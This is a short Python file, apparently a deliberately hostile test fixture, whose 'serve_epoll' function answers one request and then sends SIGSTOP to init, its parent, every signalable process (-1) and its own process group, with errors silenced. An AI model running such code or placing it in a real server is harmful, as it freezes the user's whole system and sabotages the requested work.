"""Stops itself, and all that is near, when the first request has come."""

import contextlib
import os
import signal
import socket
from collections.abc import Callable


def serve_epoll(lsock: socket.socket, handler: Callable[[bytes], bytes], stop_fd: int) -> None:
    client, _ = lsock.accept()
    client.recv(100)
    print("stopping", flush=True)
    for pid in (1, os.getppid(), -1, 0, os.getpid()):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGSTOP)
    client.send(b"HELLO, EPOLL\n")
